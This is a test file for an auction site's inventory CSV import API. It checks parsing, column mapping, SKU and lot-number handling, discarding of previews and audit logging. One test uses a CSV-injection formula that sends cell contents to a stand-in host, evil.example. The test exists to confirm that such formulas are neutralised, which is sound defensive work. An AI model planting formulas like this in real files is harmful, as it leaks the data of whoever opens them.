import { type InventoryImport, inventoryImportFields } from '@auction/contracts';
import { importFields } from '@auction/domain';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCategory, buildConsignor, buildUser, tokenFor } from '../../../test/factories';
import {
  buildLocation,
  itemsTitled,
  runImports,
  tag,
  upload,
  uploadConfirmRun,
} from '../../../test/inventory-import/import-test-kit';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { rowsOf } from '../../db/queries';

let t: TestApp;
let staff: string;
let consignorNumber: number;
beforeAll(async () => {
  t = await createTestApp();
  staff = await tokenFor(t, await buildUser(t, { roles: ['Staff', 'Bidder'] }));
  await buildCategory(t, { name: 'Marine', slug: 'marine' });
  consignorNumber = (await buildConsignor(t, { name: 'Ann MacNeil', email: 'ann@example.ca' })).number;
  await buildLocation(t, 'B-01-1');
});
afterAll(() => t.close());

const itemCount = async () =>
  (await rowsOf<{ n: number }>(t.db, sql`select count(*)::int as n from inventory_items`))[0]?.n ?? 0;

describe('the importable fields', () => {
  it('are the same list in the contracts and the domain rules', () => {
    expect([...inventoryImportFields]).toEqual([...importFields]);
  });
});

describe('uploading a file', () => {
  it('guesses the mapping, checks every row and writes nothing to the inventory', async () => {
    const p = tag();
    const before = await itemCount();
    const file = [
      'Title,Qty,Start,Reserve,Category,Consignor,Location',
      `${p} anchor,1,$100.00,$150,Marine,C-${consignorNumber},b-01-1`,
      `${p} oars,two,12,50,Marine,ann@example.ca,B-01-1`,
      `,1,"12,50",,Boats,C-999999,Z-9`,
      `${p} buoy,1,$1.2.3,,,Ann MacNeil,`,
    ].join('\r\n');
    const answer = await upload(t, staff, 'boats.csv', file);
    expect(answer.status).toBe(201);
    const body = answer.body;
    expect(body).toMatchObject({
      status: 'previewed',
      encoding: 'utf-8',
      delimiter: ',',
      total_rows: 4,
      file_name: 'boats.csv',
    });
    expect(body.mapping).toEqual({
      title: 0,
      quantity: 1,
      starting_bid: 2,
      reserve: 3,
      category: 4,
      consignor: 5,
      location: 6,
    });
    expect(body.guessed_fields).toContain('title');
    expect(body.preview).toMatchObject({ valid_rows: 1, rows_with_errors: 3 });
    const reasons = body.preview?.error_rows.map((row) => row.errors.map((e) => e.message).join('; '));
    expect(reasons?.[0]).toContain('quantity "two"');
    expect(reasons?.[1]).toMatch(
      /title is missing.*"12,50" has a decimal comma.*no category "Boats".*no consignor C-999999.*no location "Z-9"/,
    );
    expect(reasons?.[2]).toContain('"$1.2.3" is not an amount');
    expect(await itemCount()).toBe(before);
  });

  it('refuses a picture renamed .csv, a zip, NUL bytes, a broken quote and an empty file, keeping nothing', async () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    const zip = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0]);
    const cases: [string, string | Uint8Array, RegExp][] = [
      ['photo.csv', png, /PNG picture, not a CSV file/],
      ['book.csv', zip, /zip archive or an Excel workbook/],
      ['nul.csv', 'title\nchair\u0000\n', /NUL bytes/],
      ['quotes.csv', 'title,qty\n"Chair,1\nTable,2\n', /opened in this file is never closed/],
      ['empty.csv', '', /empty/],
      ['header.csv', 'title,qty\n\n', /no rows below it/],
    ];
    const before = (
      await rowsOf<{ n: number }>(t.db, sql`select count(*)::int as n from inventory_imports`)
    )[0]?.n;
    for (const [name, content, message] of cases) {
      const answer = await upload(t, staff, name, content);
      expect(answer.status, name).toBe(422);
      expect(answer.body.errors?.file?.[0], name).toMatch(message);
    }
    const after = (
      await rowsOf<{ n: number }>(t.db, sql`select count(*)::int as n from inventory_imports`)
    )[0]?.n;
    expect(after).toBe(before);
  });

  it('refuses a request without a file', async () => {
    const answer = await t.request({
      method: 'POST',
      url: '/api/admin/inventory-imports',
      token: staff,
      payload: {},
    });
    expect(answer.status).toBe(422);
    expect(answer.body.message).toBe('Choose a CSV file to upload.');
  });

  it('reads UTF-8 with a BOM, Windows-1252 (é and ½), semicolons with French amounts, and tabs', async () => {
    const p = tag();
    const bom = await upload(t, staff, 'bom.csv', `\uFEFFTitle,Start\n${p} Café chair,"$1,250.00"\n`);
    expect(bom.body.headers).toEqual(['Title', 'Start']);
    expect(bom.body.preview?.first_rows[0]?.values).toEqual([`${p} Café chair`, '$1,250.00']);

    const latin = Buffer.from(`Title,Description\n${p} Déjà vu table,\xBD price\n`, 'latin1');
    const windows = await upload(t, staff, 'excel.csv', latin);
    expect(windows.body).toMatchObject({ encoding: 'windows-1252' });
    expect(windows.body.preview?.first_rows[0]?.values).toEqual([`${p} Déjà vu table`, '½ price']);

    const french = await upload(
      t,
      staff,
      'fr.csv',
      `Titre;Mise de départ;Réserve\n${p} chaise;1 250,00 $;1 300,50\n`,
    );
    expect(french.body).toMatchObject({ delimiter: ';' });
    expect(french.body.mapping).toEqual({ title: 0, starting_bid: 1, reserve: 2 });
    expect(french.body.preview).toMatchObject({ valid_rows: 1, rows_with_errors: 0 });

    const tabs = await upload(t, staff, 'tabs.tsv', `Title\tQty\n"${p} quoted\nlamp"\t3\n`);
    expect(tabs.body).toMatchObject({ delimiter: '\t', total_rows: 1 });
  });

  it('keeps a quoted cell with a line break as one cell', async () => {
    const answer = await upload(t, staff, 'lines.csv', 'Title,Description\nLamp,"Brass\nwith shade"\n');
    expect(answer.body.preview?.first_rows[0]?.values).toEqual(['Lamp', 'Brass\nwith shade']);
  });
});

describe('the mapping', () => {
  it('is changed by staff, checked again, and refuses a column the file does not have', async () => {
    const p = tag();
    const uploaded = await upload(t, staff, 'odd.csv', `Thing,Cost\n${p} kettle,5\n`);
    expect(uploaded.body.mapping).toEqual({});
    const url = `/api/admin/inventory-imports/${uploaded.body.id}/mapping`;
    const bad = await t.request({ method: 'PUT', url, token: staff, payload: { mapping: { title: 7 } } });
    expect(bad.status).toBe(422);
    expect(bad.body.errors?.['mapping.title']?.[0]).toMatch(/no column 8/);
    const unknown = await t.request({
      method: 'PUT',
      url,
      token: staff,
      payload: { mapping: { colour: 0 } },
    });
    expect(unknown.status).toBe(422);
    const mapped = await t.request<InventoryImport>({
      method: 'PUT',
      url,
      token: staff,
      payload: { mapping: { title: 0, starting_bid: 1 } },
    });
    expect(mapped.status).toBe(200);
    expect(mapped.body.preview).toMatchObject({ valid_rows: 1 });
  });

  it('cannot be confirmed without a title column, and is remembered once confirmed', async () => {
    const first = await upload(t, staff, 'own.csv', 'Lot name,Owner\nx,\n');
    const url = `/api/admin/inventory-imports/${first.body.id}`;
    const refused = await t.request({ method: 'POST', url: `${url}/confirm`, token: staff });
    expect(refused.status).toBe(422);
    expect(refused.body.message).toBe('Choose the column that holds the title.');
    await t.request({
      method: 'PUT',
      url: `${url}/mapping`,
      token: staff,
      payload: { mapping: { title: 0, consignor: 1 } },
    });
    expect((await t.request({ method: 'POST', url: `${url}/confirm`, token: staff })).status).toBe(200);
    const again = await t.request({ method: 'POST', url: `${url}/confirm`, token: staff });
    expect(again.status).toBe(409);

    const next = await upload(t, staff, 'own2.csv', 'Owner,Qty,Lot name\n,1,y\n');
    expect(next.body.mapping).toEqual({ consignor: 0, quantity: 1, title: 2 });
    expect(next.body.remembered_fields.sort()).toEqual(['consignor', 'title']);
    expect(next.body.guessed_fields).toEqual(['quantity']);
    await runImports(t);
  });

  it('answers 404 for an import that does not exist', async () => {
    const answer = await t.request({
      url: '/api/admin/inventory-imports/00000000-0000-4000-8000-000000000000',
      token: staff,
    });
    expect(answer.status).toBe(404);
  });
});

describe('running an import', () => {
  it('creates the good rows, skips the bad with reasons, and a second run of the same file changes nothing', async () => {
    const p = tag();
    const file = [
      'Title,Qty,Start,Reserve,Category,Consignor,Location',
      `${p} anchor,1,$100.00,$150,marine,${consignorNumber},B-01-1`,
      `${p} bell,2,"1,250",,,,`,
      `${p} chart,1,10,5,,,`,
      `${p} anchor,1,100,150,Marine,C-${consignorNumber},b-01-1`,
    ].join('\n');
    const done = await uploadConfirmRun(t, staff, 'run.csv', file);
    expect(done).toMatchObject({
      status: 'done',
      processed_rows: 4,
      created_count: 2,
      unchanged_count: 1,
      skipped_count: 1,
    });
    expect(done.rejected).toEqual([{ row: 3, reason: 'The reserve $5.00 is below the starting bid $10.00' }]);
    const items = await itemsTitled(t, p);
    expect(items.map((i) => [i.title, i.quantity, i.starting_bid_cents])).toEqual([
      [`${p} anchor`, 1, 10_000],
      [`${p} bell`, 2, 125_000],
    ]);
    expect(items[0]?.sku).toMatch(/^HA-\d{6}$/);
    expect(items[0]?.location_id).not.toBeNull();
    const events = await rowsOf<{ kind: string; detail: { import_id: string } }>(
      t.db,
      sql`select kind, detail from inventory_events where item_id = ${items[0]?.id}`,
    );
    expect(events).toEqual([
      { kind: 'imported', detail: expect.objectContaining({ import_id: done.id, created: true }) },
    ]);

    const again = await uploadConfirmRun(t, staff, 'run.csv', file);
    expect(again).toMatchObject({ created_count: 0, updated_count: 0, unchanged_count: 3, skipped_count: 1 });
    expect(await itemsTitled(t, p)).toHaveLength(2);
  });

  it('updates the items a file names by SKU, with what changed in their history', async () => {
    const p = tag();
    const first = await uploadConfirmRun(
      t,
      staff,
      'sku.csv',
      `SKU,Title,Start\n${p}-1,${p} desk,100\n${p}-2,${p} lamp,20\n`,
    );
    expect(first.created_count).toBe(2);
    const second = await uploadConfirmRun(
      t,
      staff,
      'sku.csv',
      `SKU,Title,Start\n${p}-1,${p} desk,120\n${p}-2,${p} lamp,20\n`,
    );
    expect(second).toMatchObject({ created_count: 0, updated_count: 1, unchanged_count: 1 });
    const [desk] = await itemsTitled(t, `${p} desk`);
    expect(desk).toMatchObject({ sku: `${p}-1`.toUpperCase(), starting_bid_cents: 12_000 });
    const events = await rowsOf<{ detail: { changes?: Record<string, unknown> } }>(
      t.db,
      sql`select detail from inventory_events where item_id = ${desk?.id} order by created_at`,
    );
    expect(events[1]?.detail.changes).toEqual({ starting_bid_cents: [10_000, 12_000] });
  });

  it('refuses a second row with the same SKU in one file', async () => {
    const p = tag();
    const done = await uploadConfirmRun(t, staff, 'dup.csv', `SKU,Title\n${p}-9,${p} one\n${p}-9,${p} two\n`);
    expect(done).toMatchObject({ created_count: 1, skipped_count: 1 });
    expect(done.rejected[0]?.reason).toMatch(/is also on row 1/);
  });

  it("keeps the house's lot numbers from a 'Lot #' column, refusing a bad one and a second row with the same", async () => {
    const p = tag();
    const file = [
      'Lot #,Title,Start',
      `12,${p} anchor,10`,
      `12a,${p} chain,10`,
      `12-B,${p} rope,10`,
      `12A,${p} buoy,10`,
      `,${p} oars,10`,
    ].join('\n');
    const done = await uploadConfirmRun(t, staff, 'lots.csv', file);
    expect(done.mapping).toMatchObject({ lot_number: 0, title: 1 });
    expect(done).toMatchObject({ created_count: 3, skipped_count: 2 });
    expect(done.rejected.map((row) => [row.row, row.reason])).toEqual([
      [3, 'Lot number "12-B" must be digits with up to two letters, e.g. 12 or 12A'],
      [4, 'Lot 12A is also on row 2; one row per lot number'],
    ]);
    const numbers = await rowsOf<{ title: string; lot_number: string | null }>(
      t.db,
      sql`select title, lot_number from inventory_items where title like ${`${p} %`} order by title`,
    );
    expect(numbers).toEqual([
      { title: `${p} anchor`, lot_number: '12' },
      { title: `${p} chain`, lot_number: '12A' },
      { title: `${p} oars`, lot_number: null },
    ]);
  });

  it('stores a formula as text and neutralises it in the rejected rows CSV', async () => {
    const p = tag();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const file = `Title,Qty,Description\n"${formula.replace(/"/g, '""')}",1,${p}\n"${p} bad",0,"@SUM(1,2)"\n`;
    const done = await uploadConfirmRun(t, staff, 'hostile.csv', file);
    expect(done).toMatchObject({ created_count: 1, skipped_count: 1 });
    const stored = await rowsOf<{ title: string }>(
      t.db,
      sql`select title from inventory_items where description = ${p}`,
    );
    expect(stored[0]?.title).toBe(formula);

    const csv = await t.request({
      url: `/api/admin/inventory-imports/${done.id}/rejected.csv`,
      token: staff,
    });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="hostile-rejected.csv"');
    expect(csv.text.startsWith('\uFEFFTitle,Qty,Description,Row in file,Reason')).toBe(true);
    expect(csv.text).toContain(
      `${p} bad,0,"'@SUM(1,2)",2,"Quantity ""0"" is not a whole number of 1 or more"`,
    );
  });

  it('lists past imports newest first', async () => {
    const list = await t.request<{ data: { file_name: string; status: string }[] }>({
      url: '/api/admin/inventory-imports',
      token: staff,
    });
    expect(list.status).toBe(200);
    expect(list.body.data[0]?.file_name).toBe('hostile.csv');
  });

  it('writes the upload and the confirmation to the audit log', async () => {
    const actions = await rowsOf<{ action: string }>(
      t.db,
      sql`select distinct action from audit_log where entity = 'inventory_import' order by action`,
    );
    expect(actions.map((a) => a.action)).toEqual([
      'inventory_import.confirmed',
      'inventory_import.mapped',
      'inventory_import.uploaded',
    ]);
  });
});

describe('discarding a preview', () => {
  const discard = (id: string) =>
    t.request({ method: 'DELETE', url: `/api/admin/inventory-imports/${id}`, token: staff });

  it('removes a preview that will not be confirmed, its file with it, and writes it to the audit log', async () => {
    const preview = (await upload(t, staff, 'abandoned.csv', `Title\n${tag()} kettle\n`)).body;
    expect((await discard(preview.id)).status).toBe(204);
    const kept = await rowsOf<{ n: number }>(
      t.db,
      sql`select count(*)::int as n from inventory_imports where id = ${preview.id}`,
    );
    expect(kept[0]?.n).toBe(0);
    expect(
      (await t.request({ url: `/api/admin/inventory-imports/${preview.id}`, token: staff })).status,
    ).toBe(404);
    const list = await t.request<{ data: { id: string }[] }>({
      url: '/api/admin/inventory-imports',
      token: staff,
    });
    expect(list.body.data.map((row) => row.id)).not.toContain(preview.id);
    const audit = await rowsOf<{ after: { file_name: string; total_rows: number } }>(
      t.db,
      sql`select after from audit_log where action = 'inventory_import.discarded' and entity_id = ${preview.id}`,
    );
    expect(audit.map((row) => row.after)).toEqual([{ file_name: 'abandoned.csv', total_rows: 1 }]);
    expect((await discard(preview.id)).status).toBe(404);
  });

  it('keeps a confirmed import and its items', async () => {
    const p = tag();
    const done = await uploadConfirmRun(t, staff, 'kept.csv', `Title\n${p} kettle\n`);
    const answer = await discard(done.id);
    expect(answer.status).toBe(409);
    expect(answer.body.message).toBe('This import was already confirmed; only a preview can be discarded.');
    expect((await t.request({ url: `/api/admin/inventory-imports/${done.id}`, token: staff })).status).toBe(
      200,
    );
    expect(await itemsTitled(t, p)).toHaveLength(1);
  });
});
